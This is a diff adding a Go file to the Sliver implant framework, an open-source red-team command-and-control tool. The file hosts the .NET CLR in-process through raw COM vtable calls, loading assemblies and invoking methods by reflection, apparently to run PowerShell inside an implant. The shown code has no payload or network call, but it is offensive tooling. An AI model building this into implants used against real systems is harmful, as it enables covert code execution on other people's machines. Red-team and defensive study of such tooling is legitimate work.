@@ -0,0 +1,281 @@
+package powershell
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"fmt"
+	"syscall"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	clrVersion = "v4.0.30319"
+
+	coinitMultithreaded = 0x0
+	sFalse              = 0x1
+
+	vtEmpty   = 0x0
+	vtBSTR    = 0x8
+	vtVariant = 0xC
+
+	// System.Reflection.BindingFlags
+	bindingInstance     = 0x4
+	bindingStatic       = 0x8
+	bindingPublic       = 0x10
+	bindingInvokeMethod = 0x100
+	bindingGetProperty  = 0x1000
+)
+
+// vtable indexes of the methods we call
+const (
+	release = 2
+
+	// ICLRMetaHost
+	getRuntime = 3
+
+	// ICLRRuntimeInfo
+	getInterface = 9
+
+	// ICorRuntimeHost
+	start            = 10
+	getDefaultDomain = 13
+
+	// _AppDomain
+	load2 = 44
+
+	// _Assembly
+	getType2 = 17
+
+	// _Type
+	invokeMember3 = 57
+)
+
+var (
+	clsidCLRMetaHost      = windows.GUID{Data1: 0x9280188d, Data2: 0x0e8e, Data3: 0x4867, Data4: [8]byte{0xb3, 0x0c, 0x7f, 0xa8, 0x38, 0x84, 0xe8, 0xde}}
+	iidICLRMetaHost       = windows.GUID{Data1: 0xd332db9e, Data2: 0xb9b3, Data3: 0x4125, Data4: [8]byte{0x82, 0x07, 0xa1, 0x48, 0x84, 0xf5, 0x32, 0x16}}
+	iidICLRRuntimeInfo    = windows.GUID{Data1: 0xbd39d1d2, Data2: 0xba2f, Data3: 0x486a, Data4: [8]byte{0x89, 0xb0, 0xb4, 0xb0, 0xcb, 0x46, 0x68, 0x91}}
+	clsidCorRuntimeHost   = windows.GUID{Data1: 0xcb2f6723, Data2: 0xab3a, Data3: 0x11d2, Data4: [8]byte{0x9c, 0x40, 0x00, 0xc0, 0x4f, 0xa3, 0x0a, 0x3e}}
+	iidICorRuntimeHost    = windows.GUID{Data1: 0xcb2f6722, Data2: 0xab3a, Data3: 0x11d2, Data4: [8]byte{0x9c, 0x40, 0x00, 0xc0, 0x4f, 0xa3, 0x0a, 0x3e}}
+	iidAppDomain          = windows.GUID{Data1: 0x05f696dc, Data2: 0x2b29, Data3: 0x3663, Data4: [8]byte{0xad, 0x8b, 0xc4, 0x38, 0x9c, 0xf2, 0xa7, 0x13}}
+	errNoDefaultAppDomain = errors.New("Failed to get the default AppDomain")
+
+	clrErrors = map[uint32]string{
+		0x80131604: "The invoked .NET method threw an exception",
+		0x80131522: ".NET type not found",
+		0x80131700: "The .NET runtime could not be loaded",
+		0x80070002: ".NET assembly not found",
+		0x80131040: ".NET assembly version mismatch",
+		0x80131513: ".NET method or property not found",
+	}
+)
+
+// comObject - Any COM interface, each of which starts with its vtable
+type comObject struct {
+	vtbl *[64]uintptr
+}
+
+func (obj *comObject) call(method int, args ...uintptr) uintptr {
+	var argv [14]uintptr
+	copy(argv[:], args)
+	hr, _, _ := syscall.Syscall15(obj.vtbl[method], uintptr(len(args)+1), uintptr(unsafe.Pointer(obj)),
+		argv[0], argv[1], argv[2], argv[3], argv[4], argv[5], argv[6],
+		argv[7], argv[8], argv[9], argv[10], argv[11], argv[12], argv[13])
+	return hr
+}
+
+func (obj *comObject) release() {
+	if obj != nil {
+		obj.call(release)
+	}
+}
+
+func failed(hr uintptr) bool {
+	return int32(hr) < 0
+}
+
+// hresultError - CLR errors aren't in the system message table, so we name
+// the common ones ourselves
+func hresultError(hr uintptr) error {
+	code := uint32(hr)
+	if msg, ok := clrErrors[code]; ok {
+		return fmt.Errorf("%s (0x%08x)", msg, code)
+	}
+	if code&0xFFFF0000 == 0x80070000 {
+		return syscall.Errno(code & 0xFFFF)
+	}
+	return fmt.Errorf("HRESULT 0x%08x", code)
+}
+
+func comError(err error) error {
+	if errno, ok := err.(syscall.Errno); ok {
+		return hresultError(uintptr(errno))
+	}
+	return err
+}
+
+// allocBSTR - Free with SysFreeString
+func allocBSTR(value string) *uint16 {
+	str, err := windows.UTF16PtrFromString(value)
+	if err != nil {
+		return nil
+	}
+	return syscalls.SysAllocString(str)
+}
+
+// stringVariant - Free with VariantClear
+func stringVariant(value string) syscalls.Variant {
+	return syscalls.Variant{
+		VT:  vtBSTR,
+		Val: int64(uintptr(unsafe.Pointer(allocBSTR(value)))),
+	}
+}
+
+// defaultAppDomain - Load (or get the already loaded) v4 runtime, and get
+// its default AppDomain, which is never unloaded so the result can be kept
+func defaultAppDomain() (*comObject, error) {
+	var metaHost *comObject
+	err := syscalls.CLRCreateInstance(&clsidCLRMetaHost, &iidICLRMetaHost, unsafe.Pointer(&metaHost))
+	if err != nil {
+		return nil, comError(err)
+	}
+	defer metaHost.release()
+
+	version, err := windows.UTF16PtrFromString(clrVersion)
+	if err != nil {
+		return nil, err
+	}
+	var runtimeInfo *comObject
+	hr := metaHost.call(getRuntime, uintptr(unsafe.Pointer(version)), uintptr(unsafe.Pointer(&iidICLRRuntimeInfo)), uintptr(unsafe.Pointer(&runtimeInfo)))
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	defer runtimeInfo.release()
+
+	var runtimeHost *comObject
+	hr = runtimeInfo.call(getInterface, uintptr(unsafe.Pointer(&clsidCorRuntimeHost)), uintptr(unsafe.Pointer(&iidICorRuntimeHost)), uintptr(unsafe.Pointer(&runtimeHost)))
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	defer runtimeHost.release()
+
+	// S_FALSE if the runtime was already started
+	hr = runtimeHost.call(start)
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+
+	var domainUnknown *comObject
+	hr = runtimeHost.call(getDefaultDomain, uintptr(unsafe.Pointer(&domainUnknown)))
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	if domainUnknown == nil {
+		return nil, errNoDefaultAppDomain
+	}
+	defer domainUnknown.release()
+
+	var appDomain *comObject
+	hr = domainUnknown.call(0, uintptr(unsafe.Pointer(&iidAppDomain)), uintptr(unsafe.Pointer(&appDomain)))
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	return appDomain, nil
+}
+
+// loadAssembly - Load an assembly by its display name, e.g. from the GAC
+func loadAssembly(appDomain *comObject, name string) (*comObject, error) {
+	assemblyName := allocBSTR(name)
+	defer syscalls.SysFreeString(assemblyName)
+	var assembly *comObject
+	hr := appDomain.call(load2, uintptr(unsafe.Pointer(assemblyName)), uintptr(unsafe.Pointer(&assembly)))
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	return assembly, nil
+}
+
+func getType(assembly *comObject, name string) (*comObject, error) {
+	typeName := allocBSTR(name)
+	defer syscalls.SysFreeString(typeName)
+	var typeObj *comObject
+	hr := assembly.call(getType2, uintptr(unsafe.Pointer(typeName)), uintptr(unsafe.Pointer(&typeObj)))
+	if failed(hr) {
+		return nil, hresultError(hr)
+	}
+	if typeObj == nil {
+		return nil, fmt.Errorf("Type %s not found", name)
+	}
+	return typeObj, nil
+}
+
+// invokeMember - _Type.InvokeMember_3, target is nil for static members, the
+// result must be freed with VariantClear
+func invokeMember(typeObj *comObject, name string, flags uint32, target *syscalls.Variant, args ...syscalls.Variant) (syscalls.Variant, error) {
+	result := syscalls.Variant{}
+	memberName := allocBSTR(name)
+	defer syscalls.SysFreeString(memberName)
+
+	var array uintptr
+	if 0 < len(args) {
+		array = syscalls.SafeArrayCreateVector(vtVariant, 0, uint32(len(args)))
+		if array == 0 {
+			return result, errors.New("Failed to allocate the arguments array")
+		}
+		defer syscalls.SafeArrayDestroy(array)
+		for index := range args {
+			arrayIndex := int32(index)
+			err := syscalls.SafeArrayPutElement(array, &arrayIndex, unsafe.Pointer(&args[index]))
+			if err != nil {
+				return result, comError(err)
+			}
+		}
+	}
+
+	// The target VARIANT is passed by value, which is a hidden pointer to a
+	// copy on 64-bit and the 16 bytes of the VARIANT on the stack on 32-bit
+	targetCopy := syscalls.Variant{VT: vtEmpty}
+	if target != nil {
+		targetCopy = *target
+	}
+	var hr uintptr
+	if unsafe.Sizeof(uintptr(0)) == 8 {
+		hr = typeObj.call(invokeMember3, uintptr(unsafe.Pointer(memberName)), uintptr(flags), 0,
+			uintptr(unsafe.Pointer(&targetCopy)), array, uintptr(unsafe.Pointer(&result)))
+	} else {
+		words := (*[4]uintptr)(unsafe.Pointer(&targetCopy))
+		hr = typeObj.call(invokeMember3, uintptr(unsafe.Pointer(memberName)), uintptr(flags), 0,
+			words[0], words[1], words[2], words[3], array, uintptr(unsafe.Pointer(&result)))
+	}
+	if failed(hr) {
+		return result, hresultError(hr)
+	}
+	return result, nil
+}
+
+// callMethod - Call a public instance method and discard its result
+func callMethod(typeObj *comObject, name string, target *syscalls.Variant, args ...syscalls.Variant) error {
+	result, err := invokeMember(typeObj, name, bindingInvokeMethod|bindingInstance|bindingPublic, target, args...)
+	syscalls.VariantClear(&result)
+	return err
+}